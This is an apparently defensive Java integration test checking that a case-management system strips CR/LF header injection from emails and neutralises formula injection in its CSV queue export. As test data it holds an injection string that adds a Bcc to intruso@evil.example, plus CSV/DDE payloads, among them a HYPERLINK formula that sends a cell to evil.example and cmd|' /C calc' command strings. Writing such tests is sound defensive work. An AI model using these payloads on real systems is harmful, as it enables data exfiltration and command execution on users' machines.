package br.com.atende.it.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import br.com.atende.cases.application.CaseService;
import br.com.atende.cases.application.OpenedCase;
import br.com.atende.cases.model.ContactOrigin;
import br.com.atende.cases.model.Priority;
import br.com.atende.cases.notification.CaseEmailPart;
import br.com.atende.cases.notification.CaseEmailService;
import br.com.atende.cases.notification.SendCaseEmailCommand;
import br.com.atende.it.support.ActingAgent;
import br.com.atende.it.support.Fixtures;
import br.com.atende.it.support.MailServer;
import br.com.atende.it.support.Openings;
import br.com.atende.party.application.ContactOption;
import br.com.atende.party.application.LookupBy;
import br.com.atende.party.application.PartyOption;
import br.com.atende.party.application.PartyService;
import br.com.atende.party.model.PartyKind;
import br.com.atende.queue.application.CustomFieldFilter;
import br.com.atende.queue.application.QueueExport;
import br.com.atende.shared.BusinessException;
import jakarta.ejb.EJBException;
import jakarta.inject.Inject;
import jakarta.mail.Address;
import jakarta.mail.internet.MimeMessage;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.UUID;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Injection through the text a case carries: CR/LF in a subject or a typed address never becomes an
 * email header or an extra recipient, and a spreadsheet never reads a cell of the queue's CSV as a
 * formula.
 */
@ExtendWith(ArquillianExtension.class)
class InjectionIT {

  private static final String INJECTED = "\r\nBcc: intruso@evil.example\r\nX-Injected: sim";

  @Inject ActingAgent acting;

  @Inject Openings openings;

  @Inject CaseService cases;

  @Inject CaseEmailService caseEmails;

  @Inject PartyService parties;

  @Inject Fixtures fixtures;

  @Inject QueueExport export;

  @Test
  void lineBreaksInASubjectNeverBecomeHeadersOfTheOpeningEmail() throws Exception {
    String word = "Cab" + UUID.randomUUID().toString().substring(0, 8);
    try (MailServer mail = MailServer.start()) {
      OpenedCase opened;
      try {
        opened = openForPaulo(word + " assunto" + INJECTED);
      } catch (EJBException | BusinessException refused) {
        return; // refusing the subject is as good as cleaning it
      }
      MimeMessage email = mail.awaitEmail(opened.number());

      assertHeadersClean(email);
      assertEquals(List.of("paulo@horizonte.example"), recipients(mail, opened.number()));
    }
  }

  @Test
  void aTypedAddressWithALineBreakIsRefusedOrSentToNobodyElse() throws Exception {
    String word = "End" + UUID.randomUUID().toString().substring(0, 8);
    try (MailServer mail = MailServer.start()) {
      OpenedCase opened = openForPaulo(word + " endereços");
      mail.awaitEmail(opened.number());
      try {
        acting.as(
            "ana",
            () ->
                caseEmails.send(
                    new SendCaseEmailCommand(
                        opened.id(),
                        false,
                        List.of(),
                        "colega@horizonte.example" + INJECTED,
                        EnumSet.of(CaseEmailPart.REQUEST),
                        List.of(),
                        "Mensagem" + INJECTED)));
      } catch (EJBException | BusinessException refused) {
        // refused as a whole: nothing was queued
      }
      Thread.sleep(2_000); // the outbox sends within a second in tests
      for (MimeMessage email : mail.received()) {
        assertHeadersClean(email);
      }
      assertFalse(
          recipients(mail, opened.number()).contains("intruso@evil.example"),
          "no email reached the injected address");
    }
  }

  @Test
  void noCellOfTheQueueCsvStartsAFormula() throws Exception {
    String word = "Form" + UUID.randomUUID().toString().substring(0, 8);
    List<String> formulas =
        List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1",
            "=cmd|' /C notepad'!'A1'",
            // The guard's former gaps (issue 16): a line break inside, a leading tab or CR.
            "=2+5\nlinha",
            "\t=2+5",
            "\r=2+5");
    for (String formula : formulas) {
      long party = fixtures.party(PartyKind.PERSON, formula, "1133334444", false);
      acting.as(
          "ana",
          () ->
              cases.open(
                  Openings.command(
                      cases.openingDefaults(),
                      party,
                      null,
                      formula + " " + word,
                      "Pedido.",
                      Priority.NORMAL,
                      null,
                      true,
                      "PHONE",
                      ContactOrigin.CLIENT)));
    }

    String csv = acting.as("ana", () -> export.csv(new CustomFieldFilter(null, null)));
    assertTrue(csv.contains(word), "the export holds the cases");
    List<String> formulaCells = new ArrayList<>();
    for (List<String> row : parse(csv)) {
      for (String cell : row) {
        if (cell.matches("(?s)^[\\s]*[=+\\-@].*") && !cell.strip().matches("-?[0-9.,]+")) {
          formulaCells.add(cell);
        }
      }
    }
    assertEquals(List.of(), formulaCells, "cells a spreadsheet would evaluate");
  }

  private OpenedCase openForPaulo(String subject) throws Exception {
    PartyOption metalurgica =
        acting.as("ana", () -> parties.lookup(null, LookupBy.NAME_OR_TAX_ID, "Metalúrgica").get(0));
    ContactOption paulo =
        acting.as("ana", () -> parties.contactsOf(metalurgica.id())).stream()
            .filter(c -> c.name().equals("Paulo Santos"))
            .findFirst()
            .orElseThrow();
    return acting.as(
        "ana",
        () ->
            cases.open(
                Openings.command(
                    cases.openingDefaults(),
                    metalurgica.id(),
                    paulo.id(),
                    subject,
                    "Pedido.",
                    Priority.NORMAL,
                    null,
                    false,
                    "PHONE",
                    ContactOrigin.CLIENT)));
  }

  private static void assertHeadersClean(MimeMessage email) throws Exception {
    assertNull(email.getHeader("Bcc"), "no Bcc header");
    assertNull(email.getHeader("X-Injected"), "no injected header");
    String subject = email.getSubject();
    assertFalse(subject.contains("\r") || subject.contains("\n"), "one-line subject: " + subject);
  }

  /** Everyone GreenMail delivered an email about the case to (its envelope recipients). */
  private static List<String> recipients(MailServer mail, String number) throws Exception {
    List<String> to = new ArrayList<>();
    for (MimeMessage email : mail.received()) {
      if (email.getSubject().contains(number)) {
        Address[] all = email.getAllRecipients();
        Arrays.stream(all == null ? new Address[0] : all).forEach(a -> to.add(a.toString()));
      }
    }
    return to;
  }

  /** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
  static List<List<String>> parse(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    return rows;
  }
}
